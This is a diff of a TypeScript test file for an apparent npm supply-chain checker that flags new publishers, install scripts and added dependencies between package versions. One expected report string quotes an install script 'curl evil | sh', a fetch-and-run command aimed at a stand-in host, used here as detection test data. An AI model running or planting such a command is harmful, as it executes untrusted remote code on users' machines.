@@ -58,6 +58,20 @@ const content: Record<string, Stored> = {
     },
     { '1.0.0': '2026-01-01T00:00:00.000Z', '1.1.0': '2026-02-01T00:00:00.000Z' },
   ),
+  // The version in between is too young to be compared with, and like the one that is.
+  '/between': npmPackument(
+    'between',
+    {
+      '1.0.0': by('alice'),
+      '1.1.0': by('alice'),
+      '1.2.0': { ...by('zed'), scripts: { postinstall: 'node setup.js' } },
+    },
+    {
+      '1.0.0': '2026-01-01T00:00:00.000Z',
+      '1.1.0': '2026-01-28T00:00:00.000Z',
+      '1.2.0': '2026-02-01T00:00:00.000Z',
+    },
+  ),
   '/undated': npmPackument('undated', { '1.0.0': by('alice'), '1.1.0': by('alice') }, {}),
   '/first': npmPackument(
     'first',
@@ -77,6 +91,7 @@ const directory = await openedDirectory({
     onNpm('taken', '1.0.2'),
     onNpm('turns', '3.0.0'),
     onNpm('rewritten', '1.1.0'),
+    onNpm('between', '1.2.0'),
     onNpm('undated', '1.1.0'),
     onNpm('built', '1.1.0'),
     onNpm('first', '1.0.0'),
@@ -108,7 +123,7 @@ describe('the recorded version of an npm package, beside the one published befor
       'package.install_scripts': {
         outcome: 'seen',
         value: { postinstall: 'node setup.js' },
-        as_seen: { version: '1.0.2', before: { version: '1.0.0', value: {} } },
+        as_seen: { version: '1.0.2', before: { version: '1.0.1', value: {} } },
       },
       'package.new_dependencies': {
         outcome: 'seen',
@@ -118,7 +133,7 @@ describe('the recorded version of an npm package, beside the one published befor
     });
     const text = await read('taken');
     expect(text).toMatch(
-      /Version `1\.0\.2` of `npm:taken` was published by `mallory`, and version `1\.0\.0` before it by `alice` \(Dossier, \d{4}-\d\d-\d\d\)\./,
+      /Version `1\.0\.2` of `npm:taken` was published by `mallory`, and an earlier version, `1\.0\.0`, by `alice` \(Dossier, \d{4}-\d\d-\d\d\)\./,
     );
     expect(text).toContain('Dependencies that an earlier version did not have: 1: `plain-crypto`');
   });
@@ -160,7 +175,24 @@ describe('the recorded version of an npm package, beside the one published befor
   it('has a script of the same name with another text', async () => {
     await observe('rewritten');
     expect(await read('rewritten')).toContain(
-      'Version `1.1.0` of `npm:rewritten` names `install` “curl evil \\| sh”, which npm runs at installation; version `1.0.0` before it has a different text for this script',
+      'Version `1.1.0` of `npm:rewritten` names `install` “curl evil \\| sh”, which npm runs at installation; an earlier version, `1.0.0`, has a different text for this script',
+    );
+  });
+
+  it('names the newest earlier version that had what it no longer has', async () => {
+    const before = { version: '1.1.0' };
+    expect(await observe('between')).toMatchObject({
+      'package.published_by': { as_seen: { before: { ...before, value: 'alice' } } },
+      'package.install_scripts': { as_seen: { before: { ...before, value: {} } } },
+    });
+    const text = await read('between');
+    expect(text).toContain('which npm runs at installation; an earlier version, `1.1.0`, names none');
+    expect(text).toContain('was published by `zed`, and an earlier version, `1.1.0`, by `alice`');
+    expect(text).toContain('`zed`; an earlier version, `1.1.0`: `alice`');
+    const handle = 'npx between@1.1.0';
+    const { version_asked } = await callTool<{ version_asked: string }>(directory, 'get_agent', { handle });
+    expect(version_asked).toMatch(
+      / Version `1\.1\.0` of `npm:between` names no script that npm runs at installation and was published by `alice` \(Dossier, [\d-]{10}\)\./,
     );
   });
 
